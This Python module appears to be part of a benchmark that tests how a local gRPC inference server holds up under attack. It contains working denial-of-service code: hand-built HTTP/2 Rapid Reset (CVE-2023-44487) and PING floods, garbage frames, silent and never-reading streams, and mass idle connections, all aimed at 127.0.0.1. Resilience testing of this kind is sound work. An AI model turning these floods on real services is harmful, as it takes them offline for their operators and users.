"""Peers that mean harm. Each goes on until it is told to stop."""

import asyncio
import contextlib
import logging
import socket

import grpc
import numpy as np

from benchmarks.support.rpc_messages import STREAM, Values
from mods_grpc.artifact import read_artifact
from mods_grpc.v1 import inference_pb2 as pb
from mods_grpc.v1 import verdict_pb2

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0\0\0\x04\0\0\0\0\0"
# HPACK: POST http /mods.v1.InferenceService/StreamDetect, content-type and te as literals without indexing
HEADERS = (
    b"\x83\x86"
    b"\x04" + bytes([len(STREAM)]) + STREAM.encode() + b"\x01\x01x" + b"\x0f\x10\x10application/grpc" + b"\x00\x02te\x08trailers"
)
OWN_CONNECTION = [("grpc.use_local_subchannel_pool", 1)]
SILENT, NEVER_READING, IDLE, CHANNELS = 200, 100, 300, 4


def frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


@contextlib.asynccontextmanager
async def streams(port, values, count, **config):
    """Open StreamDetect calls over a few connections."""
    opening = pb.StreamDetectRequest(config=pb.StreamConfig(model=values.model, **config)).SerializeToString()
    async with contextlib.AsyncExitStack() as stack:
        channels = [
            await stack.enter_async_context(grpc.aio.insecure_channel(f"127.0.0.1:{port}", options=OWN_CONNECTION))
            for _ in range(CHANNELS)
        ]
        calls = [channels[i % CHANNELS].stream_stream(STREAM)() for i in range(count)]
        for call in calls:
            await call.write(opening)
        yield calls
        for call in calls:
            call.cancel()


async def silent_streams(port, values, stop):
    """Open streams, and say nothing more."""
    async with streams(port, values, SILENT, sensor="silent"):
        await stop.wait()


async def never_reading(port, values, stop):
    """Ask for long answers, as fast as the server takes the questions, and read none."""
    async with streams(port, values, NEVER_READING, sensor="mute", explain=verdict_pb2.EXPLAIN_ALL) as calls:
        writing = [asyncio.ensure_future(_write_on(call, values)) for call in calls]
        await stop.wait()
        for one in writing:
            one.cancel()


async def _write_on(call, values):
    with contextlib.suppress(grpc.RpcError, asyncio.InvalidStateError):
        for message in values.stream(64, 0, 10**6):
            await call.write(message)


async def raw(port, stop, frames):
    """Speak HTTP/2 frames by hand, as fast as the peer takes them, and read nothing."""
    while not stop.is_set():
        try:
            _, writer = await asyncio.open_connection("127.0.0.1", port)
        except OSError:
            await asyncio.sleep(0.05)
            continue
        try:
            writer.transport.set_write_buffer_limits(high=1 << 16)
            writer.write(PREFACE)
            number = 1
            while not stop.is_set() and number < 2**30:
                for _ in range(50):
                    writer.write(frames(number))
                    number += 2
                await asyncio.wait_for(writer.drain(), 1)
                await asyncio.sleep(0.001)
        except (OSError, TimeoutError):
            await asyncio.sleep(0.05)
        finally:
            writer.transport.abort()


async def rapid_reset(port, _, stop):
    """Open streams and reset them at once (CVE-2023-44487)."""
    await raw(port, stop, lambda number: frame(1, 4, number, HEADERS) + frame(3, 0, number, b"\0\0\0\x08"))


async def ping_flood(port, _, stop):
    await raw(port, stop, lambda _: frame(6, 0, 0, bytes(8)))


async def garbage(port, _, stop):
    rng = np.random.default_rng(2)
    await raw(port, stop, lambda _: rng.bytes(200))


async def many_connections(port, _, stop):
    """Open connections that say nothing."""
    held = []
    try:
        for _ in range(IDLE):
            one = socket.socket()
            one.setblocking(False)
            with contextlib.suppress(BlockingIOError):
                one.connect(("127.0.0.1", port))
            held.append(one)
            await asyncio.sleep(0)
        await stop.wait()
    finally:
        for one in held:
            one.close()


ATTACKS = {
    f"{SILENT} silent streams": silent_streams,
    "rapid reset": rapid_reset,
    f"{NEVER_READING} that never read": never_reading,
    "ping flood": ping_flood,
    "garbage": garbage,
    f"{IDLE} idle connections": many_connections,
}


def attack(names, port, artifact, stop):
    """Be the attacker, until the event of another process is set. `artifact` says which model to name, as `read_artifact`."""
    logging.disable(logging.CRITICAL)
    values = Values(read_artifact(*artifact).manifest)

    async def run():
        over = asyncio.Event()
        running = [asyncio.ensure_future(ATTACKS[name](port, values, over)) for name in names]
        while not stop.is_set():
            await asyncio.sleep(0.1)
        over.set()
        await asyncio.wait(running, timeout=5)

    asyncio.run(run())
